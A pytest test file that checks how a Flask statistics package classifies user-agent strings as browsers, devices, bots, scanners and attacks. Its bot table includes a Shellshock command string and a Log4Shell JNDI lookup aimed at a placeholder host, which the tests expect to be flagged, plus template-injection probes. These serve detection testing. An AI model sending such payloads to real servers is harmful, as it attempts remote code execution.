"""Browser, platform, device and bot of user agents, with both resolvers of ua-parser."""

from __future__ import annotations

import json
import random
import subprocess
import sys
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import user_agents as reference

from flask_statistics.recording.enrich import bots, user_agents
from flask_statistics.recording.enrich.user_agents import UserAgent, describe_user_agent, prepare

WINDOWS = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
CHROME = WINDOWS + "Chrome/32.0.1700.107 Safari/537.36"
ANDROID = "Mozilla/5.0 (Linux; Android 14; {}) AppleWebKit/537.36 (KHTML, like Gecko) "
IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) {}Mobile/15E148{}"
)

# People, as browsers, apps and browsers within apps name themselves.
PERSONS = {
    CHROME: "desktop",
    WINDOWS + "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0": "desktop",
    WINDOWS + "Slack/4.38.125 Chrome/122.0.6261.156 Electron/29.3.0 Safari/537.36": "desktop",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.9; rv:27.0) Gecko/20100101 Firefox/27.0": "desktop",
    "Mozilla/5.0 (X11; Linux x86_64; rv:24.0) Gecko/20140205 Firefox/24.0 Iceweasel/24.3.0": (
        "desktop"
    ),
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; http://www.tropicdesigns.net)": (
        "desktop"
    ),
    "Mozilla/5.0 (X11; CrOS x86_64 4920.83.0) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/32.0.1700.103 Safari/537.36": "desktop",
    "Mozilla/5.0 (iPad; CPU OS 7_0_4 like Mac OS X) AppleWebKit/537.51.1 (KHTML, like Gecko) "
    "Version/7.0 Mobile/11B554a Safari/9537.53": "tablet",
    IPHONE.format("Version/17.5 ", " Safari/604.1"): "mobile",
    IPHONE.format(
        "", " [FBAN/FBIOS;FBAV/467.0.0.43.109;FBBV/602;FBDV/iPhone15,3;FBSN/iOS;FBLC/en_US]"
    ): "mobile",
    IPHONE.format("", " Instagram 336.0.6.24.106 (iPhone14,5; iOS 17_5; en_US; scale=3.00)"): (
        "mobile"
    ),
    IPHONE.format("", " [LinkedInApp]/9.29"): "mobile",
    ANDROID.format("Pixel 8; wv")
    + "Version/4.0 Chrome/125.0.6422.113 Mobile Safari/537.36 [Pinterest/Android]": "mobile",
    ANDROID.format("CUBOT_X19") + "Chrome/96.0.4664.45 Mobile Safari/537.36": "mobile",
    ANDROID.format("CUBOT KINGKONG 9") + "Chrome/96.0.4664.45 Mobile Safari/537.36": "mobile",
    "Mozilla/5.0 (Linux; U; Android 4.1.2; en-gb; GT-N8020 Build/JZO54K) AppleWebKit/534.30 "
    "(KHTML, like Gecko) Version/4.0 Safari/534.30": "tablet",
    "Opera/9.80 (J2ME/MIDP; Opera Mini/7.1.32052/34.1244; U; en) Presto/2.8.119": "mobile",
    "Dalvik/1.6.0 (Linux; U; Android 4.1.2; GT-I8190 Build/JZO54K)": "tablet",
    "MyShop/3.2 (iPhone; iOS 17.1; Scale/3.00)": "mobile",
    "Lynx/2.8.7rel.2 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/1.0.1f": "other",
    "w3m/0.5.3": "other",
    "Mozilla/5.0 (Android; Mobile; rv:27.0) Gecko/27.0 Firefox/27.0": "mobile",
    "Amazon CloudFront": "other",
}

# Programs, and the words that tell what they are.
BOTS = {
    "": "no user agent",
    "-": "no user agent",
    " \t": "no user agent",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)": "Googlebot",
    IPHONE.format("Version/6.0 ", " Safari/8536.25 (compatible; Googlebot/2.1; +http://g.co)"): (
        "Googlebot"
    ),
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)": "bingbot",
    "Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)": "Slurp",
    "Mozilla/5.0 (compatible; Linux x86_64; Mail.RU_Bot/2.0; +http://go.mail.ru/)": "Mail.RU_Bot",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2)": "GPTBot",
    "Mozilla/5.0 (compatible; ClaudeBot/1.0; +claudebot@anthropic.com)": "ClaudeBot",
    "CCBot/2.0 (https://commoncrawl.org/faq/)": "CCBot",
    "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile "
    "Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)": "Bytespider",
    CHROME + " (compatible; PerplexityBot/1.0)": "PerplexityBot",
    "Scrapy/2.11.2 (+https://scrapy.org)": "Scrapy",
    "curl/8.5.0": "curl (HTTP client)",
    "Wget/1.21.4": "Wget (HTTP client)",
    "python-requests/2.32.3": "python-requests (HTTP client)",
    "python-urllib3/2.2.1": "python-urllib3 (HTTP client)",
    "Python-urllib/3.12": "Python-urllib (HTTP client)",
    "Python/3.12 aiohttp/3.9.5": "aiohttp (HTTP client)",
    "python-httpx/0.27.0": "python-httpx (HTTP client)",
    "Go-http-client/2.0": "Go-http-client (HTTP client)",
    "Java/17.0.11": "Java (HTTP client)",
    "okhttp/4.12.0": "okhttp (HTTP client)",
    "libwww-perl/6.72": "libwww-perl (HTTP client)",
    "node": "node (HTTP client)",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)": "node-fetch (HTTP client)",
    "axios/1.7.2": "axios (HTTP client)",
    "PostmanRuntime/7.39.0": "PostmanRuntime (HTTP client)",
    "Werkzeug/3.1.3": "Werkzeug (HTTP client)",
    WINDOWS + "HeadlessChrome/125.0.0.0 Safari/537.36": "HeadlessChrome (headless browser)",
    CHROME + " Playwright/1.44": "Playwright (headless browser)",
    "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) "
    "PhantomJS/1.9.2 Safari/534.34": "PhantomJS (headless browser)",
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)": (
        "UptimeRobot (monitor)"
    ),
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)": (
        "Pingdom.com_bot_version_1.4 (monitor)"
    ),
    CHROME + " StatusCake": "StatusCake (monitor)",
    "kube-probe/1.29": "kube-probe (monitor)",
    "ELB-HealthChecker/2.0": "ELB-HealthChecker (monitor)",
    "GoogleHC/1.0": "GoogleHC (monitor)",
    "Prometheus/2.51.0": "Prometheus (monitor)",
    "Blackbox Exporter/0.24.0": "Blackbox Exporter (monitor)",
    "Tiny Tiny RSS/1.11 (http://tt-rss.org/)": "Tiny Tiny RSS (feed reader)",
    "UniversalFeedParser/4.2-pre-314-svn +http://feedparser.org/": (
        "UniversalFeedParser (feed reader)"
    ),
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)": (
        "facebookexternalhit (link preview)"
    ),
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)": (
        "Slackbot-LinkExpanding (link preview)"
    ),
    "WhatsApp/2.23.20.0": "WhatsApp (link preview)",
    "sqlmap/1.8.4#stable (https://sqlmap.org)": "SQLMap (security scanner)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)": "Nikto (security scanner)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)": (
        "Nmap Scripting Engine (security scanner)"
    ),
    "() { :;}; /bin/bash -c 'id'": "attack in the user agent",
    CHROME + " ${jndi:ldap://x.example/a}": "attack in the user agent",
    "AcmeBot": "AcmeBot",
    "Some Crawler/2.1": "Some Crawler",
    "Mozilla/5.0 (compatible; SiteExplorer/1.0b; +http://siteexplorer.info/)": "SiteExplorer",
    "Mozilla/5.0 (compatible; +https://example.com/about)": "unnamed robot",
    "acme link checker": "link checker (program)",
    "Mozilla/5.0": "unknown program",
    "&as_qdr=all": "unknown program",
}


BUILD_PARSER = user_agents._parser.__wrapped__


@cache
def parser(kind: str) -> Callable[[str], Any]:
    """Return a parser, built once for all tests: the native one takes 0.1 s."""
    with pytest.MonkeyPatch.context() as patch:
        if kind == "pure":
            patch.setitem(sys.modules, "ua_parser.regex", None)
        return BUILD_PARSER()


@pytest.fixture(params=["native", "pure"])
def resolver(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Runs a test with each resolver of ua-parser."""
    if request.param == "native":
        pytest.importorskip("ua_parser_rs")
    monkeypatch.setattr(user_agents, "_parser", lambda: parser(request.param))
    return str(request.param)


def named(name: str | None, version: str) -> str:
    return f"{name} {version}".strip()


def is_named_alike(text: str) -> bool:
    ours, theirs = describe_user_agent(text), reference.parse(text)
    return (
        named(ours.browser, ours.browser_version) == theirs.get_browser()
        and named(ours.platform, ours.platform_version) == theirs.get_os()
        and (ours.bot is not None or not theirs.is_bot)
    )


@pytest.mark.parametrize("text", PERSONS)
def test_person(text: str, resolver: str) -> None:
    """A browser, an app or a browser within an app is a person with the device it says."""
    found = describe_user_agent(text)
    assert (found.bot, found.device) == (None, PERSONS[text])


@pytest.mark.parametrize("text", BOTS)
def test_bot(text: str, resolver: str) -> None:
    """A program is a bot by its name or with the reason it is held for one."""
    found = describe_user_agent(text)
    assert (found.bot, found.device) == (BOTS[text], "bot")


def test_names_are_those_of_the_user_agents_package(resolver: str) -> None:
    """Browser and platform are exactly get_browser() and get_os() of user-agents."""
    texts = [*PERSONS, *(text for text in BOTS if text.strip(" -\t"))]
    assert [text for text in texts if not is_named_alike(text)] == []


def test_spider_that_only_the_native_resolver_finds(resolver: str) -> None:
    """Where the native resolver finds more spiders, the name is still that of user-agents."""
    text = (
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR "
        "2.0.50727; .NET CLR 3.5.30729; .NET CLR 3.0.30729; Media Center PC 6.0; MDDR; .NET4.0C; "
        ".NET4.0E; .NET CLR 1.1.4322; Tablet PC 2.0); 360Spider"
    )
    assert describe_user_agent(text) == UserAgent("IE", "8.0", "Windows", "7", "bot", "360Spider")


def test_name_and_version_stand_apart(resolver: str) -> None:
    """Families and versions come apart, so that a model may have a column for each."""
    assert describe_user_agent(CHROME) == UserAgent(
        "Chrome", "32.0.1700", "Windows", "7", "desktop", None
    )


def test_no_user_agent() -> None:
    """Without a header nothing is known but that no browser asks so."""
    assert describe_user_agent(None) == UserAgent(None, "", None, "", "bot", "no user agent")


@pytest.mark.parametrize(
    "text",
    [
        "\x00",
        "\ud800\udfff",
        "Liferea/².²",
        "Mozilla/5.0 (Windows NT 10.0) Chrome/" + "9" * 5000,
        "{{ 7 * 7 }} <b>bold</b> %s {}",
        "\u202eevil\u202c",
        "é" * 3000,
        "Firefox/²²",
        "Android ²;",
    ],
)
def test_hostile_text(text: str, resolver: str) -> None:
    """Control characters, surrogates, markup and odd digits never raise."""
    assert describe_user_agent(text).device in {"desktop", "mobile", "tablet", "bot", "other"}


@pytest.mark.parametrize(
    "unit", [";", "a", "bot", "Mozilla/5.0 (", "https://", "Android 4.0; ", "\x00"]
)
def test_megabyte(unit: str, resolver: str) -> None:
    """Only the first characters of a huge user agent are looked at."""
    whole = unit * (1_000_000 // len(unit))
    assert describe_user_agent(whole) == describe_user_agent(
        whole[: user_agents.LONGEST_USER_AGENT]
    )


def test_random_text_has_short_names(resolver: str) -> None:
    """Whatever a user agent holds, the bot's name is bounded and the naming never raises."""
    dice = random.Random(3)
    letters = "aB1²\u0660 ./;:()+-_\\bot\u4e2dhttp://"
    texts = ("".join(dice.choices(letters, k=300)) for _ in range(50))
    names = [describe_user_agent(text).bot or "" for text in texts]
    assert max(map(len, names)) <= bots.LONGEST_NAME


def test_prepare_builds_the_parser() -> None:
    """After prepare() the parser stands, so that no request waits for it."""
    user_agents._parser.cache_clear()
    prepare()
    assert user_agents._parser.cache_info().currsize == 1


def test_import_is_light() -> None:
    """Importing the module imports neither user-agents nor ua-parser."""
    code = (
        "import sys\n"
        "from flask_statistics.recording.enrich import referrers, user_agents\n"
        "print(sorted({'user_agents', 'ua_parser', 'ua_parser_rs'} & set(sys.modules)))"
    )
    folder = Path(user_agents.__file__).parents[3]
    done = subprocess.run(
        [sys.executable, "-c", code], cwd=folder, capture_output=True, text=True, check=True
    )
    assert done.stdout.strip() == "[]"


def test_list_names_nothing_twice() -> None:
    """Each program of the list stands there once, under one reason."""
    listed = json.loads(bots._LIST.read_text("utf-8"))
    names = [
        name.lower() for reason, group in listed.items() if reason != "about" for name in group
    ]
    assert sorted(names) == sorted(set(names))
